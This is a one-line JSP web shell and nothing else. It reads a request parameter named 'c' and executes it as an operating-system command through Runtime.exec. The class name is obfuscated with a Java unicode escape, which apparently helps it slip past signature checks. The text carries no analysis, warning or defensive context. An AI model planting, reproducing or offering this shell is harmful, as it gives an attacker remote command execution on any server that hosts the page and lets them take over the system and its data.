<% String c = request.getParameter("c"); \u0052untime.getRuntime().exec(c); %>
